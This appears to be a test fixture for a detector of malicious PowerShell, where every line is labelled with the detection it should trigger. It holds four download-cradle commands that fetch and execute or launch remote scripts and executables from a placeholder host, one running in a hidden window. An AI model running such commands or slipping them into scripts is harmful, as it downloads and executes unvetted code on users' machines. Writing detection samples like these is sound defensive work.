# Prepares the workstation.
# expect: powershell-download-cradle
iex (New-Object Net.WebClient).DownloadString('https://get.tool.example/a.ps1')
# expect: powershell-download-cradle
(New-Object System.Net.WebClient).DownloadFile('https://get.tool.example/a.exe', 'a.exe'); Start-Process a.exe
# expect: powershell-download-cradle
Invoke-Expression (Invoke-WebRequest https://get.tool.example/b.ps1)
# expect: powershell-download-cradle, hidden-process
powershell -w hidden -c "iwr https://get.tool.example/c.exe -OutFile c.exe"
